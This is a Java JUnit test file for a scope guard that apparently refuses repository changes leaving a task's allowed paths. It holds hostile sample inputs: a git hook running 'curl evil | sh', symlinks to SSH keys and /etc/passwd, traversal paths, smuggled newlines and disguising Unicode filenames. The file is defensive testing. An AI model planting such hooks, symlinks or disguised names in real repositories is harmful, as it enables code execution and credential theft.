package dev.leviathan.engine.execute.scope;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import dev.leviathan.engine.execute.scope.Change.Kind;
import java.nio.file.Path;
import java.util.List;
import org.assertj.core.groups.Tuple;
import org.eclipse.jgit.lib.ObjectId;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ScopeGuardTest {

    private static final ObjectId BLOB = ObjectId.fromString("8ab686eafeb1f44702738c8b0f24f2567c36da6d");

    @TempDir
    Path temp;

    private Workspace project() {
        return Workspace.project(temp.resolve("repo"));
    }

    private static List<Violation> violations(ScopeVerdict verdict) {
        assertThat(verdict).isInstanceOf(ScopeVerdict.Refused.class);
        return ((ScopeVerdict.Refused) verdict).violations();
    }

    private static List<Tuple> rules(ScopeVerdict verdict) {
        return violations(verdict).stream().map(v -> tuple(v.path(), v.rule())).toList();
    }

    private static String message(ScopeVerdict verdict, ScopeRule rule) {
        return violations(verdict).stream().filter(v -> v.rule() == rule).findFirst().orElseThrow().message();
    }

    /** Changes built by hand, for paths no real work tree can hold. */
    private static ScopeVerdict judge(Change... changes) {
        return ScopeGuard.check(List.of(changes), Workspace.rules(BaseTree.empty(), Workspace.POLICY, "docs", "docs/"));
    }

    private static Change added(String path) {
        return Change.added(TreeEntry.file(path, EntryMode.FILE, BLOB, 12));
    }

    // ---- what passes ----------------------------------------------------------------------------

    @Test
    void allowsWritesDeletionsAndRenamesInsideTheAllowedPaths() {
        try (Workspace workspace = project()) {
            workspace.write("docs/guide.md", "# Guide\n\nNow with a FAQ.\n").write("docs/faq.md", "# FAQ\n")
                    .delete("docs/api/routes.md").move("README.md", "docs/README.md");

            ScopeVerdict verdict = workspace.check("docs/", "README.md");

            assertThat(verdict).isInstanceOf(ScopeVerdict.Allowed.class);
            assertThat(((ScopeVerdict.Allowed) verdict).changes()).extracting(Change::kind, Change::path).containsExactly(
                    tuple(Kind.RENAMED, "docs/README.md"), tuple(Kind.DELETED, "docs/api/routes.md"),
                    tuple(Kind.ADDED, "docs/faq.md"), tuple(Kind.MODIFIED, "docs/guide.md"));
        }
    }

    @Test
    void anUnchangedTreeIsAllowedWithNoChanges() {
        try (Workspace workspace = project()) {
            assertThat(workspace.check("docs/")).isEqualTo(new ScopeVerdict.Allowed(List.of(), List.of()));
        }
    }

    @Test
    void anExactFileEntryAllowsOnlyThatFile() {
        try (Workspace workspace = project()) {
            workspace.write("docs/guide.md", "# Guide v2\n").write("docs/guide.md.bak", "old\n");

            assertThat(rules(workspace.check("docs/guide.md"))).containsExactly(
                    tuple("docs/guide.md.bak", ScopeRule.OUTSIDE_ALLOWED_PATHS));
        }
    }

    @Test
    void allowsAModeChangeInsideTheAllowedPathsAndReportsIt() {
        try (Workspace workspace = project()) {
            workspace.write("docs/build.sh", "#!/bin/sh\nmkdocs build\n").executable("docs/build.sh", true);

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(verdict).isInstanceOf(ScopeVerdict.Allowed.class);
            assertThat(((ScopeVerdict.Allowed) verdict).notices()).extracting(Notice::message)
                    .containsExactly("'docs/build.sh' is added as an executable file");
        }
    }

    @Test
    void allowsMakingAnExistingFileExecutableInsideTheAllowedPathsAndReportsIt() {
        try (Workspace workspace = Workspace.empty(temp.resolve("repo"))) {
            workspace.write("docs/serve.sh", "#!/bin/sh\nmkdocs serve\n").commit();
            workspace.executable("docs/serve.sh", true);

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(verdict).isInstanceOf(ScopeVerdict.Allowed.class);
            assertThat(((ScopeVerdict.Allowed) verdict).changes()).extracting(Change::kind).containsExactly(Kind.MODE_CHANGED);
            assertThat(((ScopeVerdict.Allowed) verdict).notices()).containsExactly(
                    new Notice("docs/serve.sh", "'docs/serve.sh' becomes executable"));
        }
    }

    @Test
    void allowsASymlinkInsideTheAllowedPathsAndReportsWhereItResolves() {
        try (Workspace workspace = project()) {
            workspace.symlink("docs/api/latest.md", "../guide.md");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(verdict).isInstanceOf(ScopeVerdict.Allowed.class);
            assertThat(((ScopeVerdict.Allowed) verdict).notices()).extracting(Notice::message)
                    .containsExactly("'docs/api/latest.md' is a symlink to '../guide.md' (resolves to 'docs/guide.md')");
        }
    }

    // ---- path shapes ----------------------------------------------------------------------------

    @Test
    void refusesAParentSegment() {
        ScopeVerdict verdict = judge(added("docs/../../etc/cron.d/job"));

        assertThat(rules(verdict)).containsExactly(tuple("docs/../../etc/cron.d/job", ScopeRule.PARENT_SEGMENT));
        assertThat(message(verdict, ScopeRule.PARENT_SEGMENT)).isEqualTo("adds 'docs/../../etc/cron.d/job': the path"
                + " has a '..' segment, which leads out of its directory and can lead out of the repository");
    }

    @Test
    void refusesAnAbsolutePath() {
        assertThat(rules(judge(added("/etc/passwd"), added("C:/Windows/win.ini")))).containsExactly(
                tuple("/etc/passwd", ScopeRule.ABSOLUTE_PATH), tuple("C:/Windows/win.ini", ScopeRule.ABSOLUTE_PATH));
    }

    @Test
    void refusesAnEmptySegmentAndADotSegment() {
        assertThat(rules(judge(added("docs//x.md"), added("docs/./y.md"), added("")))).containsExactly(
                tuple("", ScopeRule.EMPTY_SEGMENT), tuple("docs/./y.md", ScopeRule.DOT_SEGMENT),
                tuple("docs//x.md", ScopeRule.EMPTY_SEGMENT));
    }

    @Test
    void refusesABackslashInAFileName() {
        try (Workspace workspace = project()) {
            workspace.write("docs/..\\..\\evil.md", "x\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/..\\..\\evil.md", ScopeRule.BACKSLASH));
        }
    }

    @Test
    void refusesAControlCharacterInAFileName() {
        try (Workspace workspace = project()) {
            workspace.write("docs/ok.md\nM src/app.py", "forged status line\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/ok.md\nM src/app.py", ScopeRule.CONTROL_CHARACTER));
            assertThat(message(verdict, ScopeRule.CONTROL_CHARACTER)).startsWith("adds 'docs/ok.md\\u000AM src/app.py'")
                    .doesNotContain("\n");
        }
    }

    @Test
    void refusesANulCharacter() {
        assertThat(rules(judge(added("docs/a\u0000.md")))).containsExactly(tuple("docs/a\u0000.md", ScopeRule.CONTROL_CHARACTER));
    }

    // ---- git's own files ------------------------------------------------------------------------

    @Test
    void refusesFilesInsideANestedGitDirectory() {
        try (Workspace workspace = project()) {
            workspace.write("docs/.git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/.git/hooks/post-checkout", ScopeRule.GIT_DIRECTORY));
            assertThat(message(verdict, ScopeRule.GIT_DIRECTORY)).contains("inside a .git directory");
        }
    }

    @Test
    void refusesAGitFileThatPointsGitElsewhere() {
        try (Workspace workspace = project()) {
            workspace.write("docs/sub/.git", "gitdir: /home/user/other/.git\n");

            assertThat(rules(workspace.check("docs/"))).containsExactly(tuple("docs/sub/.git", ScopeRule.GIT_DIRECTORY));
        }
    }

    @Test
    void refusesTheSpellingsFileSystemsReadAsGit() {
        try (Workspace workspace = project()) {
            workspace.write("docs/.GIT/config", "[core]\n").write("docs/.git. /config", "[core]\n")
                    .write("docs/GIT~1/config", "[core]\n").write("docs/.g\u200Cit/config", "[core]\n");

            assertThat(violations(workspace.check("docs/"))).filteredOn(v -> v.rule() == ScopeRule.GIT_DIRECTORY)
                    .extracting(Violation::path).containsExactly("docs/.GIT/config", "docs/.git. /config",
                            "docs/.g\u200Cit/config", "docs/GIT~1/config");
        }
    }

    @Test
    void refusesANestedRepository() throws Exception {
        try (Workspace workspace = project()) {
            org.eclipse.jgit.api.Git.init().setDirectory(workspace.dir().resolve("docs/vendor").toFile()).call().close();

            List<Violation> found = violations(workspace.check("docs/"));

            assertThat(found).isNotEmpty().allSatisfy(v -> assertThat(v.rule()).isEqualTo(ScopeRule.GIT_DIRECTORY));
            assertThat(found).extracting(Violation::path).contains("docs/vendor/.git/HEAD", "docs/vendor/.git/config");
        }
    }

    @Test
    void refusesGitmodulesEvenWhenTheTaskAllowsIt() {
        try (Workspace workspace = project()) {
            workspace.write(".gitmodules", "[submodule \"x\"]\n\tpath = docs/x\n\turl = https://evil.example/x.git\n");

            ScopeVerdict verdict = workspace.checkUnder("allowed_paths: ['**']", "docs", ".gitmodules", "docs/");

            assertThat(rules(verdict)).containsExactly(tuple(".gitmodules", ScopeRule.GITMODULES));
        }
    }

    @Test
    void refusesAnAddedSubmodule() {
        ScopeVerdict verdict = judge(Change.added(TreeEntry.file("docs/vendor", EntryMode.SUBMODULE, BLOB, 0)));

        assertThat(rules(verdict)).containsExactly(tuple("docs/vendor", ScopeRule.SUBMODULE));
        assertThat(message(verdict, ScopeRule.SUBMODULE)).startsWith("adds the submodule 'docs/vendor'");
    }

    @Test
    void refusesARemovedSubmoduleInsideTheAllowedPaths() throws Exception {
        try (Workspace workspace = project()) {
            workspace.submodule("docs/theme", ObjectId.fromString("0123456789abcdef0123456789abcdef01234567"));
            java.nio.file.Files.delete(workspace.dir().resolve("docs/theme"));

            assertThat(rules(workspace.check("docs/"))).containsExactly(tuple("docs/theme", ScopeRule.SUBMODULE));
        }
    }

    // ---- symlinks -------------------------------------------------------------------------------

    @Test
    void refusesASymlinkWithAnAbsoluteTarget() {
        try (Workspace workspace = project()) {
            workspace.symlink("docs/passwd.md", "/etc/passwd");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/passwd.md", ScopeRule.SYMLINK_ESCAPES_TREE));
            assertThat(message(verdict, ScopeRule.SYMLINK_ESCAPES_TREE)).isEqualTo("adds the symlink 'docs/passwd.md':"
                    + " its target '/etc/passwd' is absolute, outside the repository");
        }
    }

    @Test
    void refusesASymlinkThatClimbsOutOfTheTree() {
        try (Workspace workspace = project()) {
            workspace.symlink("docs/api/keys", "../../../.ssh/id_rsa");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/api/keys", ScopeRule.SYMLINK_ESCAPES_TREE));
            assertThat(message(verdict, ScopeRule.SYMLINK_ESCAPES_TREE)).contains("climbs out of the repository");
        }
    }

    @Test
    void refusesASymlinkWithWindowsSeparatorsThatClimbsOut() {
        ScopeVerdict verdict = judge(Change.added(TreeEntry.symlink("docs/x", BLOB, "..\\..\\secret")));

        assertThat(rules(verdict)).containsExactly(tuple("docs/x", ScopeRule.SYMLINK_ESCAPES_TREE));
    }

    @Test
    void refusesASymlinkToAPathOutsideTheAllowedPaths() {
        try (Workspace workspace = project()) {
            workspace.symlink("docs/app.py", "../src/app.py");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/app.py", ScopeRule.SYMLINK_OUTSIDE_ALLOWED_PATHS));
            assertThat(message(verdict, ScopeRule.SYMLINK_OUTSIDE_ALLOWED_PATHS)).isEqualTo("adds the symlink"
                    + " 'docs/app.py': its target resolves to 'src/app.py', outside the task's allowed paths (docs/)");
        }
    }

    @Test
    void refusesASymlinkIntoAForbiddenPath() {
        try (Workspace workspace = project()) {
            workspace.write("docs/private/token.txt", "x\n");
            workspace.symlink("docs/token", "private/token.txt");

            List<Tuple> found = rules(workspace.check("docs/"));

            assertThat(found).contains(tuple("docs/token", ScopeRule.SYMLINK_TO_FORBIDDEN_PATH),
                    tuple("docs/private/token.txt", ScopeRule.FORBIDDEN_PATH));
        }
    }

    @Test
    void refusesASymlinkToAForbiddenDirectory() {
        try (Workspace workspace = project()) {
            workspace.symlink("docs/ci", "../.github");

            assertThat(rules(workspace.check("docs/"))).containsExactly(
                    tuple("docs/ci", ScopeRule.SYMLINK_OUTSIDE_ALLOWED_PATHS),
                    tuple("docs/ci", ScopeRule.SYMLINK_TO_FORBIDDEN_PATH));
        }
    }

    @Test
    void refusesASymlinkIntoGitMetadata() {
        try (Workspace workspace = project()) {
            workspace.symlink("docs/hooks", "../.git/hooks");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/hooks", ScopeRule.GIT_DIRECTORY));
            assertThat(message(verdict, ScopeRule.GIT_DIRECTORY)).contains("its target resolves into .git");
        }
    }

    @Test
    void refusesASymlinkThroughAnExistingSymlinkChainThatLeavesTheAllowedPaths() {
        try (Workspace workspace = Workspace.empty(temp.resolve("repo"))) {
            workspace.write("docs/index.md", "# Docs\n").write("src/app.py", "x = 1\n").symlink("docs/code", "../src").commit();
            workspace.symlink("docs/app.md", "code/app.py");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/app.md", ScopeRule.SYMLINK_OUTSIDE_ALLOWED_PATHS));
            assertThat(message(verdict, ScopeRule.SYMLINK_OUTSIDE_ALLOWED_PATHS))
                    .contains("resolves to 'src/app.py' (through 'docs/code')");
        }
    }

    @Test
    void refusesAChainOfNewSymlinksThatEndsOutsideTheTree() {
        try (Workspace workspace = project()) {
            workspace.symlink("docs/a", "b").symlink("docs/b", "c/../../..").directory("docs/c");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).contains(tuple("docs/a", ScopeRule.SYMLINK_ESCAPES_TREE),
                    tuple("docs/b", ScopeRule.SYMLINK_ESCAPES_TREE));
        }
    }

    @Test
    void refusesASymlinkLoop() {
        try (Workspace workspace = project()) {
            workspace.symlink("docs/ping", "pong").symlink("docs/pong", "ping");

            assertThat(rules(workspace.check("docs/"))).containsExactly(tuple("docs/ping", ScopeRule.SYMLINK_LOOP),
                    tuple("docs/pong", ScopeRule.SYMLINK_LOOP));
        }
    }

    @Test
    void refusesASymlinkThatReplacesADirectory() {
        try (Workspace workspace = project()) {
            workspace.deleteTree("docs/api").symlink("docs/api", "guide.md");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/api", ScopeRule.SYMLINK_REPLACES_DIRECTORY));
            assertThat(message(verdict, ScopeRule.SYMLINK_REPLACES_DIRECTORY)).contains("redirects every path below it");
        }
    }

    @Test
    void refusesAPathWrittenBelowASymlink() {
        Change link = Change.added(TreeEntry.symlink("docs/out", BLOB, "../src"));

        assertThat(rules(judge(link, added("docs/out/app.py")))).contains(
                tuple("docs/out/app.py", ScopeRule.BEYOND_SYMLINK));
    }

    // ---- case look-alikes -----------------------------------------------------------------------

    @Test
    void refusesANewPathThatDiffersFromAnExistingOneOnlyInCase() {
        try (Workspace workspace = project()) {
            workspace.write("docs/GUIDE.md", "# Shadow guide\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/GUIDE.md", ScopeRule.CASE_COLLISION));
            assertThat(message(verdict, ScopeRule.CASE_COLLISION)).isEqualTo("adds 'docs/GUIDE.md': the path and"
                    + " 'docs/guide.md' are one file on case-insensitive file systems (macOS, Windows): they differ only"
                    + " in letter case, Unicode form or trailing dots and spaces");
        }
    }

    @Test
    void refusesTwoNewPathsThatDifferOnlyInCase() {
        try (Workspace workspace = project()) {
            workspace.write("docs/Setup.md", "a\n").write("docs/setup.md", "b\n");

            assertThat(rules(workspace.check("docs/"))).containsExactly(tuple("docs/Setup.md", ScopeRule.CASE_COLLISION),
                    tuple("docs/setup.md", ScopeRule.CASE_COLLISION));
        }
    }

    @Test
    void refusesANewDirectoryThatIsAnExistingOneOnACaseInsensitiveFileSystem() {
        try (Workspace workspace = project()) {
            workspace.write("docs/API/auth.md", "# Auth\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/API/auth.md", ScopeRule.CASE_COLLISION));
            assertThat(message(verdict, ScopeRule.CASE_COLLISION)).contains("its directory 'docs/API' and 'docs/api'");
        }
    }

    @Test
    void aCaseOnlyRenameIsNoCollision() {
        try (Workspace workspace = project()) {
            workspace.move("docs/guide.md", "docs/Guide.md");

            assertThat(workspace.check("docs/")).isInstanceOf(ScopeVerdict.Allowed.class);
        }
    }

    @Test
    void refusesAnAllowedPathMatchThatHoldsOnlyIgnoringCase() {
        try (Workspace workspace = project()) {
            workspace.write("Docs/x.md", "x\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).contains(tuple("Docs/x.md", ScopeRule.OUTSIDE_ALLOWED_PATHS));
            assertThat(message(verdict, ScopeRule.OUTSIDE_ALLOWED_PATHS)).isEqualTo("adds 'Docs/x.md': the path is"
                    + " outside the task's allowed paths (docs/); it differs from the allowed path 'docs/' only in letter case");
        }
    }

    // ---- Unicode look-alikes ----------------------------------------------------------------------

    @Test
    void refusesAPathNotInNfc() {
        try (Workspace workspace = project()) {
            String decomposed = "docs/cafe\u0301.md";
            workspace.write(decomposed, "# Café\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple(decomposed, ScopeRule.NOT_NFC));
            assertThat(message(verdict, ScopeRule.NOT_NFC)).contains("in NFC it is 'docs/caf\u00e9.md'");
        }
    }

    @Test
    void refusesFullwidthLetters() {
        try (Workspace workspace = project()) {
            workspace.write("docs/\uFF52\uFF45\uFF41\uFF44\uFF4D\uFF45.md", "x\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/ｒｅａｄｍｅ.md", ScopeRule.COMPATIBILITY_CHARACTER));
            assertThat(message(verdict, ScopeRule.COMPATIBILITY_CHARACTER))
                    .contains("U+FF52 FULLWIDTH LATIN SMALL LETTER R").contains("reads as 'docs/readme.md'");
        }
    }

    @Test
    void refusesALigatureThatReadsAsAnExistingFile() {
        try (Workspace workspace = Workspace.empty(temp.resolve("repo"))) {
            workspace.write("docs/profile.md", "x\n").commit();
            workspace.write("docs/pro\uFB01le.md", "y\n");

            assertThat(rules(workspace.check("docs/"))).containsExactly(
                    tuple("docs/proﬁle.md", ScopeRule.COMPATIBILITY_CHARACTER),
                    tuple("docs/proﬁle.md", ScopeRule.LOOKALIKE_COLLISION));
        }
    }

    @Test
    void refusesAZeroWidthCharacter() {
        try (Workspace workspace = project()) {
            workspace.write("docs/gui\u200Bde.md", "x\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/gui\u200Bde.md", ScopeRule.INVISIBLE_CHARACTER),
                    tuple("docs/gui\u200Bde.md", ScopeRule.LOOKALIKE_COLLISION));
            assertThat(message(verdict, ScopeRule.INVISIBLE_CHARACTER))
                    .isEqualTo("adds 'docs/gui\\u200Bde.md': the path has the invisible character U+200B ZERO WIDTH SPACE");
        }
    }

    @Test
    void refusesABidirectionalControlCharacter() {
        try (Workspace workspace = project()) {
            workspace.write("docs/notes\u202Edm.exe", "MZ\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/notes\u202Edm.exe", ScopeRule.INVISIBLE_CHARACTER));
            assertThat(message(verdict, ScopeRule.INVISIBLE_CHARACTER)).contains("RIGHT-TO-LEFT OVERRIDE")
                    .doesNotContain("\u202E");
        }
    }

    @Test
    void refusesACyrillicLookalikeOfAnAllowedPrefixAndSaysSo() {
        try (Workspace workspace = project()) {
            workspace.write("d\u043Ecs/index.md", "# Docs\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).contains(tuple("dоcs/index.md", ScopeRule.OUTSIDE_ALLOWED_PATHS));
            assertThat(message(verdict, ScopeRule.OUTSIDE_ALLOWED_PATHS)).isEqualTo("adds 'dоcs/index.md': the path is"
                    + " outside the task's allowed paths (docs/); it LOOKS like the allowed path 'docs/' but its 'о' is"
                    + " U+043E CYRILLIC SMALL LETTER O");
        }
    }

    @Test
    void refusesAGreekLookalikeOfAnExistingFile() {
        try (Workspace workspace = project()) {
            workspace.write("docs/guide.md", "# Guide\n\nTampered.\n").write("docs/guid\u03B5.md", "x\n")
                    .write("docs/\u0261uide.md", "y\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/ɡuide.md", ScopeRule.LOOKALIKE_COLLISION));
            assertThat(message(verdict, ScopeRule.LOOKALIKE_COLLISION)).isEqualTo("adds 'docs/ɡuide.md': the path"
                    + " LOOKS like 'docs/guide.md': its 'ɡ' is U+0261 LATIN SMALL LETTER SCRIPT G");
        }
    }

    @Test
    void refusesACyrillicLookalikeDirectoryOfAnExistingOne() {
        try (Workspace workspace = project()) {
            workspace.write("docs/\u0430pi/routes.md", "# Routes\n\n- GET /admin\n");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/аpi/routes.md", ScopeRule.LOOKALIKE_COLLISION));
            assertThat(message(verdict, ScopeRule.LOOKALIKE_COLLISION)).contains("its directory 'docs/аpi' LOOKS like"
                    + " 'docs/api': its 'а' is U+0430 CYRILLIC SMALL LETTER A");
        }
    }

    @Test
    void allowsNonLatinNamesThatLookLikeNothingElse() {
        try (Workspace workspace = project()) {
            workspace.write("docs/руководство.md", "# Руководство\n").write("docs/指南.md", "# 指南\n");

            assertThat(workspace.check("docs/")).isInstanceOf(ScopeVerdict.Allowed.class);
        }
    }

    // ---- renames, modes, deletions, type changes out of scope -----------------------------------

    @Test
    void refusesARenameOutOfTheAllowedPaths() {
        try (Workspace workspace = project()) {
            workspace.move("docs/guide.md", "src/guide.md");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("src/guide.md", ScopeRule.OUTSIDE_ALLOWED_PATHS),
                    tuple("src/guide.md", ScopeRule.NOT_PERMITTED_BY_POLICY));
            assertThat(message(verdict, ScopeRule.OUTSIDE_ALLOWED_PATHS)).isEqualTo("renames 'docs/guide.md' to"
                    + " 'src/guide.md': the new path is outside the task's allowed paths (docs/)");
        }
    }

    @Test
    void refusesARenameIntoTheAllowedPaths() {
        try (Workspace workspace = project()) {
            workspace.move("src/app.py", "docs/app.py");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("src/app.py", ScopeRule.OUTSIDE_ALLOWED_PATHS),
                    tuple("src/app.py", ScopeRule.NOT_PERMITTED_BY_POLICY));
            assertThat(message(verdict, ScopeRule.OUTSIDE_ALLOWED_PATHS)).contains("the old path is outside");
        }
    }

    @Test
    void refusesMakingAFileExecutableOutsideTheAllowedPaths() {
        try (Workspace workspace = project()) {
            workspace.executable("src/run.sh", true);

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple("src/run.sh", ScopeRule.OUTSIDE_ALLOWED_PATHS),
                    tuple("src/run.sh", ScopeRule.NOT_PERMITTED_BY_POLICY));
            assertThat(message(verdict, ScopeRule.OUTSIDE_ALLOWED_PATHS))
                    .startsWith("makes 'src/run.sh' executable: the path is outside");
        }
    }

    @Test
    void refusesAFileDeletedOutsideTheAllowedPaths() {
        try (Workspace workspace = project()) {
            workspace.delete(".github/workflows/ci.yml");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).containsExactly(tuple(".github/workflows/ci.yml", ScopeRule.OUTSIDE_ALLOWED_PATHS),
                    tuple(".github/workflows/ci.yml", ScopeRule.FORBIDDEN_PATH));
            assertThat(message(verdict, ScopeRule.FORBIDDEN_PATH)).isEqualTo("deletes '.github/workflows/ci.yml': the"
                    + " path is forbidden by the policy (forbidden_paths: '.github/**')");
        }
    }

    @Test
    void refusesTurningAFileIntoASymlinkOutsideTheAllowedPaths() {
        try (Workspace workspace = project()) {
            workspace.delete("src/app.py").symlink("src/app.py", "../docs/guide.md");

            ScopeVerdict verdict = workspace.check("docs/");

            assertThat(rules(verdict)).contains(tuple("src/app.py", ScopeRule.OUTSIDE_ALLOWED_PATHS));
            assertThat(message(verdict, ScopeRule.OUTSIDE_ALLOWED_PATHS))
                    .startsWith("turns 'src/app.py' from a file into a symlink: the path is outside");
        }
    }

    // ---- policy -------------------------------------------------------------------------------------

    @Test
    void refusesAForbiddenPathInsideTheAllowedPaths() {
        try (Workspace workspace = project()) {
            workspace.write("docs/private/roadmap.md", "secret\n").write("docs/tls/server.pem", "-----BEGIN\n");

            assertThat(rules(workspace.check("docs/"))).containsExactly(
                    tuple("docs/private/roadmap.md", ScopeRule.FORBIDDEN_PATH),
                    tuple("docs/tls/server.pem", ScopeRule.FORBIDDEN_PATH));
        }
    }

    @Test
    void refusesAnAllowedPathThePolicyDoesNotPermitForTheScope() {
        try (Workspace workspace = project()) {
            workspace.write("src/app.py", "app = None\n");

            ScopeVerdict verdict = workspace.check("docs/", "src/");

            assertThat(rules(verdict)).containsExactly(tuple("src/app.py", ScopeRule.NOT_PERMITTED_BY_POLICY));
            assertThat(message(verdict, ScopeRule.NOT_PERMITTED_BY_POLICY)).isEqualTo("changes 'src/app.py': the path"
                    + " is not among the policy's allowed_paths for scope 'docs' (docs/**, README.md)");
        }
    }

    @Test
    void aPolicyWithoutAllowedPathsPermitsNothing() {
        try (Workspace workspace = project()) {
            workspace.write("docs/faq.md", "# FAQ\n");

            assertThat(rules(workspace.checkUnder("forbidden_paths: ['.github/**']", "docs", "docs/"))).containsExactly(
                    tuple("docs/faq.md", ScopeRule.NOT_PERMITTED_BY_POLICY));
        }
    }

    @Test
    void refusesAFileLargerThanThePolicyAllows() {
        try (Workspace workspace = project()) {
            workspace.write("docs/big.md", "x".repeat(3 * 1024)).write("docs/small.md", "x".repeat(1024));

            ScopeVerdict verdict = workspace.checkUnder(Workspace.POLICY + "file_size_limits:\n  max_file_size_kb:\n"
                    + "    \"docs/**\": 2\n", "docs", "docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/big.md", ScopeRule.FILE_TOO_LARGE));
            assertThat(message(verdict, ScopeRule.FILE_TOO_LARGE)).isEqualTo("adds 'docs/big.md': the file is 3.0 KiB;"
                    + " the policy allows at most 2 KiB for 'docs/**' (file_size_limits.max_file_size_kb)");
        }
    }

    @Test
    void refusesAFileAboveTheHardLimitWhateverThePolicySays() {
        Change huge = Change.added(TreeEntry.file("docs/dump.bin", EntryMode.FILE, BLOB, WorkTreeChanges.MAX_BLOB_BYTES + 1));

        assertThat(rules(judge(huge))).containsExactly(tuple("docs/dump.bin", ScopeRule.FILE_TOO_LARGE));
    }

    @Test
    void refusesMoreFilesThanTheScopeAllows() {
        try (Workspace workspace = project()) {
            for (char c = 'a'; c <= 'e'; c++) {
                workspace.write("docs/" + c + ".md", c + "\n");
            }

            ScopeVerdict verdict = workspace.checkUnder(Workspace.POLICY + "scope_constraints:\n  docs:\n"
                    + "    max_files_per_task: 3\n", "docs", "docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/d.md", ScopeRule.TOO_MANY_FILES));
            assertThat(message(verdict, ScopeRule.TOO_MANY_FILES)).startsWith("the attempt changes 5 files and"
                    + " scope_constraints.docs.max_files_per_task allows 3");
        }
    }

    @Test
    void refusesAnOperationTheScopeDoesNotAllow() {
        try (Workspace workspace = project()) {
            workspace.delete("docs/guide.md").write("docs/faq.md", "# FAQ\n");

            ScopeVerdict verdict = workspace.checkUnder(Workspace.POLICY + "scope_constraints:\n  docs:\n"
                    + "    allowed_operations: [create, update]\n", "docs", "docs/");

            assertThat(rules(verdict)).containsExactly(tuple("docs/guide.md", ScopeRule.OPERATION_NOT_ALLOWED));
            assertThat(message(verdict, ScopeRule.OPERATION_NOT_ALLOWED)).isEqualTo("deletes 'docs/guide.md': that is a"
                    + " delete, and scope_constraints.docs.allowed_operations allows only create, update");
        }
    }

    // ---- reporting ------------------------------------------------------------------------------

    @Test
    void reportsEveryViolationInPathOrder() {
        try (Workspace workspace = project()) {
            workspace.write("src/app.py", "hacked\n").delete("README.md").symlink("docs/x", "/etc/shadow")
                    .write(".github/workflows/ci.yml", "on: push\n");

            assertThat(rules(workspace.check("docs/"))).containsExactly(
                    tuple(".github/workflows/ci.yml", ScopeRule.OUTSIDE_ALLOWED_PATHS),
                    tuple(".github/workflows/ci.yml", ScopeRule.FORBIDDEN_PATH),
                    tuple("README.md", ScopeRule.OUTSIDE_ALLOWED_PATHS),
                    tuple("docs/x", ScopeRule.SYMLINK_ESCAPES_TREE),
                    tuple("src/app.py", ScopeRule.OUTSIDE_ALLOWED_PATHS),
                    tuple("src/app.py", ScopeRule.NOT_PERMITTED_BY_POLICY));
        }
    }

    @Test
    void refusesEachOfTwoChangesOfOnePath() {
        ScopeVerdict verdict = judge(added("docs/a.md"), Change.deleted(TreeEntry.file("docs/a.md", EntryMode.FILE, BLOB, 3)));

        assertThat(violations(verdict)).extracting(Violation::message).containsExactly(
                "adds 'docs/a.md': 2 changes write 'docs/a.md' at once",
                "deletes 'docs/a.md': 2 changes write 'docs/a.md' at once");
    }

    @Test
    void theVerdictDoesNotDependOnTheOrderOfTheChanges() {
        Change a = added("src/a.py");
        Change b = added("docs/b\u200B.md");
        Change c = Change.added(TreeEntry.symlink("docs/c", BLOB, "../src"));

        assertThat(judge(a, b, c)).isEqualTo(judge(c, a, b));
    }
}
